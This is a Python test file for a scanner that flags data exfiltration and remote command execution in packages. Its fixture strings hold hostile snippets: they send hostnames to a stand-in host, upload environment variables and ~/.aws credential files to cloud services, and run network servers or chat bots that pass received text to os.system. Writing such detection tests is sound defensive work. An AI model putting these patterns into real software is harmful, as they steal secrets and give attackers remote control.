"""Private data that objects are filled with goes where they go; what listens hands on what others send."""

from __future__ import annotations

import pytest

from bonded.facts.clients import SENT
from bonded.values.finding import When
from tests.facts.programs import calls, wheel_of

HOST = "import socket, os\nname = socket.gethostname()\n"
FILLED = {
    "header": (
        "import requests\ns = requests.Session()\ns.headers['X'] = name\ns.get('https://example.invalid')",
        "requests.Session().get",
    ),
    "attribute": (
        "import urllib.request as u\nr = u.Request('https://example.invalid')\nr.data = name\nu.urlopen(r)",
        "urllib.request.urlopen",
    ),
    "body": (
        "import http.client as h\nfrom contextlib import closing\nwith closing(h.HTTPSConnection('example.invalid')) as c:\n    c.request('POST', '/', name)",
        "http.client.HTTPConnection().request",
    ),
    "buffer": (
        "import io, httpx\nb = io.StringIO()\nprint(name, file=b)\nhttpx.post('https://example.invalid', data=b.getvalue())",
        "httpx.post",
    ),
    "nested": (
        "import httpx\nd = {'a': {}}\nd['a']['b'] = name\nhttpx.post('https://example.invalid', json=d)",
        "httpx.post",
    ),
    "field": (
        (
            "import httpx\nclass A:\n    def __init__(self):\n        self.rows = []\n    def fill(self):\n        self.rows.append(name)\n"
            "    def send(self):\n        httpx.post('https://example.invalid', json=self.rows)\na = A()\na.fill()\na.send()"
        ),
        "httpx.post",
    ),
    "file": (
        "s = socket.create_connection(('example.invalid', 80))\ns.makefile('w').write(name)",
        "socket.socket().makefile().write",
    ),
    "pool": (
        "import requests\nfrom concurrent.futures import ThreadPoolExecutor\nThreadPoolExecutor(1).submit(requests.post, 'https://example.invalid', json=name)",
        "requests.post",
    ),
    "keywords": (
        "import requests, threading\nthreading.Thread(target=requests.post, args=('https://example.invalid',), kwargs={'json': name}).start()",
        "requests.post",
    ),
    "log": (
        (
            "import logging\nfrom logging.handlers import SysLogHandler\nlog = logging.getLogger()\n"
            "log.addHandler(SysLogHandler(address=('example.invalid', 514)))\nlog.error(name)"
        ),
        "logging.Handler().emit",
    ),
    "vendored": ("from pip._vendor import requests\nrequests.post('https://example.invalid', name)", "requests.post"),
    "unknown": ("import other\nother.Client('https://example.invalid').items('a').push(name)", SENT),
}


@pytest.mark.parametrize("way", sorted(FILLED))
def test_what_an_object_was_given_goes_where_it_goes(way: str) -> None:
    source, sender = FILLED[way]
    found = calls(HOST + source, sender)
    assert found
    assert any("host" in one.labels for call in found for one in call.arguments)


KEPT_HERE = {
    "own address": ("import redis\nr = redis.Redis(name)\nr.set('a', 'b')", "redis.Redis().set"),
    "log": ("import logging\nlogging.getLogger().info(name)", "logging.Handler().emit"),
    "no address": ("import other\nother.table.push(name)", SENT),
}


@pytest.mark.parametrize("way", sorted(KEPT_HERE))
def test_what_stays_here_is_no_sending(way: str) -> None:
    source, sender = KEPT_HERE[way]
    assert calls(HOST + source, sender) == []


HEARD = {
    "http": "from http.server import *\nclass A(BaseHTTPRequestHandler):\n    def do_GET(self):\n        os.system(self.rfile.read(9))\n"
    "HTTPServer(('', 1), A).serve_forever()",
    "flask": "from flask import Flask, request\napp = Flask('a')\n@app.route('/')\ndef a():\n    os.system(request.args['a'])\napp.run()",
    "stream": "import asyncio\nasync def a(r, w):\n    os.system(await r.readline())\nasync def main():\n    await asyncio.start_server(a, '', 1)\n"
    "asyncio.run(main())",
    "protocol": "import asyncio\nclass A(asyncio.Protocol):\n    def data_received(self, data):\n        os.system(data)\n"
    "async def main():\n    await asyncio.get_running_loop().create_server(A, '', 1)\nasyncio.run(main())",
}


@pytest.mark.parametrize("way", sorted(HEARD))
def test_what_a_server_is_sent_is_known_as_that_and_runs_with_it(way: str) -> None:
    facts = wheel_of({"sample/__init__.py": "import os\n" + HEARD[way]})
    found = [call for module in facts.modules for call in module.calls if call.name == "os.system"]
    assert [(call.when, "message" in call.arguments[0].labels) for call in found] == [(When.IMPORT, True)]


SERVICES = {
    "object store": "from azure.storage.blob import BlobClient\nBlobClient.from_connection_string('x').upload_blob(str(os.environ.copy()))",
    "events": "from posthog import Posthog\nPosthog('x').capture('y', properties=dict(os.environ))",
    "file of a folder": (
        "from google.cloud import storage\nfor folder, _, names in os.walk(os.path.expanduser('~/.aws')):\n"
        "    storage.Client().bucket('x').blob('y').upload_from_filename(os.path.join(folder, names[0]))"
    ),
}


@pytest.mark.parametrize("name", sorted(SERVICES))
def test_clients_that_know_their_address_take_what_is_private(name: str) -> None:
    (call,) = calls("import os\n" + SERVICES[name], SENT)
    assert {"environment", "credentials"} & {label for one in call.arguments for label in one.labels}


def test_a_service_for_events_may_be_told_of_which_machine() -> None:
    assert calls(HOST + "import sentry_sdk\nsentry_sdk.set_tag('machine', name)", SENT) == []


def test_what_is_called_back_on_a_line_may_send() -> None:
    source = "import os, websocket\ndef greet(line):\n    line.send(str(os.environ.copy()))\n"
    source += "websocket.WebSocketApp('wss://example.invalid', on_open=greet).run_forever()"
    (call,) = calls(source, "websocket.create_connection().send")
    assert (call.when, call.arguments[-1].text) == (When.IMPORT, "wss://example.invalid")


@pytest.mark.parametrize(
    "source",
    [
        "import gspread\nos.system(gspread.oauth().open('x').sheet1.acell('A1').value)",
        "import zulip\ndef say(told):\n    os.system(told['content'])\nzulip.Client().call_on_each_message(say)",
    ],
)
def test_commands_that_come_by_way_of_a_service(source: str) -> None:
    (call,) = calls("import os\n" + source, "os.system")
    assert {"downloaded", "message"} & set(call.arguments[0].labels)
    assert call.when is When.IMPORT
